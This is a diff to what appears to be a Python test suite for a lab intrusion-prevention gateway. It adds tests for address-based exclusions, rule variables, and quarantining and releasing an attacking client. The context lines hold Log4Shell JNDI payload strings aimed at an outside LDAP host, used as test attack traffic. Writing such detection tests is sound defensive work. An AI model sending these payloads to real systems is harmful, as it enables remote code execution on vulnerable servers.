@@ -8,7 +8,7 @@ import socket
 import subprocess
 import time
 
-from harness import ROOT, SERVER, LabTest, policy, rule, services, unittest
+from harness import CLIENT, ROOT, SERVER, LabTest, policy, rule, services, unittest
 
 LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
 RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
@@ -148,6 +148,54 @@ class Ips(LabTest):
         connection.settimeout(2)
         with self.assertRaises((TimeoutError, ConnectionResetError)):
             self.fail(f"answered: {connection.recv(100)}")
+
+    def test_an_exception_by_address_lets_an_attack_by(self):
+        self.apply_inspection(excluded_traffic=[f"all from 192.0.2.0/24 to {SERVER.ipv4}"])
+        self.assertIsNone(self.attack())
+        self.apply_inspection(excluded_traffic=[f"all from {CLIENT.ipv4} to {SERVER.ipv4}"])
+        self.seen = len(self.events("alert"))
+        self.assertIsNotNone(self.attack())
+        self.assertIsNone(self.attack(SERVER.ipv6))
+        self.assertTrue(all(":" in alert["src_ip"] for alert in self.eventually(self.alerts, "an alert")))
+        self.apply_inspection(monitored_traffic=[f"all to {SERVER.ipv4}"])
+        self.assertIsNotNone(self.attack())
+
+    def test_an_administrator_sets_variables(self):
+        rule_text = ('drop http any any -> $SHOPS any (msg:"ours: not for guests"; http.uri; content:"/forbidden"; '
+                     'sid:1000002;)')
+        refused = self.gateway.control("policy.apply", comment="undefined",
+                                       yaml=policy(INSPECTED, profiles=profile(), ips_rules=[rule_text]))
+        self.assertFalse(refused["ok"])
+        self.assertIn("$SHOPS is not defined", refused["diagnostics"][0]["message"])
+        for shops, is_dropped in ((SERVER.ipv4, True), ("192.0.2.1", False)):
+            self.apply(INSPECTED, profiles=profile(), ips_rules=[rule_text], ips_variables={"SHOPS": shops})
+            self.assertEqual(self.answer("/forbidden") is None, is_dropped)
+
+    def quarantines(self):
+        return [record["quarantine"] for record in self.events("quarantine")[self.quarantines_before:]]
+
+    def test_an_attacker_is_cut_off_for_a_time_and_can_be_released(self):
+        self.quarantines_before = len(self.events("quarantine"))
+        self.addCleanup(self.cli, "quarantine", "release", "--all", check=False)
+        self.apply_inspection(quarantine_seconds=300)
+        self.assertIsNone(self.attack())
+        self.assertIsNone(self.answer("/"))
+        self.assertFalse(self.ping(SERVER.ipv4))
+        self.assertIsNotNone(self.answer("/", SERVER.ipv6))
+        self.apply_inspection(quarantine_seconds=2)
+        self.assertIsNone(self.answer("/"))
+        listed = json.loads(self.cli("--json", "quarantine", "list").stdout)["sources"]
+        self.assertEqual([source["address"] for source in listed], [CLIENT.ipv4])
+        self.cli("quarantine", "release", CLIENT.ipv4)
+        self.assertIsNotNone(self.answer("/"))
+        self.assertNotEqual(self.cli("quarantine", "release", CLIENT.ipv4, check=False).returncode, 0)
+        ended = self.eventually(lambda: [q for q in self.quarantines() if q["state"] == "ended"], "an end")
+        self.assertEqual([one["reason"] for one in ended], ["released"])
+        self.assertIsNone(self.attack())
+        self.eventually(lambda: self.answer("/"), "the end of two seconds")
+        self.eventually(lambda: len(self.quarantines()) == 4, "both ends of both")
+        self.assertEqual([q["state"] for q in self.quarantines()], ["begun", "ended"] * 2)
+        self.assertEqual(self.quarantines()[3]["reason"], "expired")
 
     def test_ten_thousand_ordinary_pages_pass(self):
         self.apply_inspection(minimum_severity="low")
